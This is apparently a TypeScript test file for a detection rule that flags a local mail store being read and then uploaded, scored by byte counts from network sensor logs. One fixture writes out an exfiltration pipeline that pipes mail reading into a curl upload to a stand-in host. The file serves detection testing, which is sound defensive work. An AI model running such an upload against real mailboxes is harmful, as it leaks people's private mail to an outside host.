import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import type { Alert } from '../../events/alert.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  factorsOf,
  firesAt,
  inOrder,
  linksHold,
  recording,
  scanFolder,
  silent,
  storyOf,
  strengthsOf,
  valuesOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';
import { SURICATA, scanBeside, toldOf } from '../wire.test-support.ts';

const curl = () => recording('an1310-mail-store-harvested/fires.tar-maildir-curl');

test('recorded: how much left with the upload, and under which name, beside what lay in the store', async () => {
  const { alerts } = await scanBeside(curl().folder, { logs: [SURICATA('beside-tar-maildir-curl')] });
  const alert = firesAt(alerts, 'AN1310', 'medium');
  linksHold(alert);
  inOrder(alert, [
    ['store.read', curl().pid('pack')],
    ['network.connected', '203.0.113.66:80'],
    ['flow.ended', '203.0.113.66:80 (drop.example.net, asked for in HTTP)', '12126 bytes out'],
  ]);
  const factor = alert.factors.find(each => each.name === 'bytes left with it');
  assert.match(factor?.evidence ?? '', /^12126 bytes out to .*; 5 messages of 2651 bytes are known of the store$/);
  assert.deepEqual(valuesOf(alert, 'service'), ['drop.example.net']);
  assert.ok(!alert.missing.some(text => text.includes('how much left')), toldOf(alert));
});

test('recorded: a sensor with a clock of its own, in the form of Zeek', async () => {
  const logs = ['conn', 'dns', 'http'].map(log => `zeek/converted/fires.tar-maildir-curl/${log}.log`);
  const { alerts } = await scanBeside(curl().folder, { logs });
  inOrder(firesAt(alerts, 'AN1310', 'medium'), [['flow.ended', 'drop.example.net', '18442 bytes out']]);
});

test('without the wire it says that bytes are not known; with one that did not see it, that too', async () => {
  const none = storyOf((await scanBeside(curl().folder, { logs: [] })).alerts, 'AN1310');
  assert.ok(none.missing.some(text => text.startsWith('Bytes sent are not in audit logs')));
  const other = storyOf((await scanBeside(curl().folder, { logs: [SURICATA('web')] })).alerts, 'AN1310');
  assert.ok(other.missing.some(text => text.startsWith('No flow on the wire fits')));
});

test('look-alike, recorded: a mail reader and a download beside it, both on the wire', async () => {
  const truth = recording('an1310-mail-store-harvested/quiet.mutt-and-curl');
  const logs = ['conn', 'dns', 'http'].map(log => `zeek/converted/quiet.mutt-and-curl/${log}.json.log`);
  silent((await scanBeside(truth.folder, { logs })).alerts);
});

/** A pipeline of a reader and curl (or curl that reads for itself), and what a sensor counted of curl's connection. */
async function piped(bytesOut: number, by: 'two' | 'one' = 'two'): Promise<Alert> {
  const log = new HostLog();
  const mine = log.deliver();
  log.wait(MINUTE);
  const [show, sender] = log
    .shell('clerk')
    .pipeline('/usr/bin/notmuch count x', '/usr/bin/curl -s -T - http://203.0.113.66/u');
  (by === 'two' ? show : sender)?.read(mine.path);
  sender?.connect('203.0.113.66', 80);
  const ts = log.records.now / 1000;
  log.wait(MINUTE);
  const conn = {
    ts,
    uid: 'C1',
    'id.orig_h': '198.51.100.10',
    'id.orig_p': 40000,
    'id.resp_h': '203.0.113.66',
    'id.resp_p': 80,
    proto: 'tcp',
    service: 'http',
    duration: 0.2,
    orig_bytes: bytesOut,
    resp_bytes: 300,
    conn_state: 'SF',
  };
  const folder = mkdtempSync(join(tmpdir(), 'watchpost-log-'));
  try {
    for (const [name, content] of new Map([
      ...log.files({ mail: true }),
      ['conn.json.log', `${JSON.stringify(conn)}\n`],
    ])) {
      mkdirSync(dirname(join(folder, name)), { recursive: true });
      writeFileSync(join(folder, name), content);
    }
    return storyOf((await scanFolder(folder)).alerts, 'AN1310');
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

test('too little left to hold mail: what only stands beside the read is low; with bytes it stays', async () => {
  const little = await piped(120);
  assert.equal(little.severity, 'low', toldOf(little));
  assert.ok(factorsOf(little).includes('too little left to hold mail'));
  const itself = await piped(120, 'one');
  assert.equal(itself.severity, 'medium', 'the same process read and connected: bytes cannot clear that');
  assert.ok(factorsOf(itself).includes('too little left to hold mail'));
  const much = await piped(4000);
  assert.equal(much.severity, 'medium');
  assert.ok(factorsOf(much).includes('bytes left with it'));
  assert.deepEqual(strengthsOf(much, 'flow'), ['inferred'], 'one connection does not tell whose address it is');
});
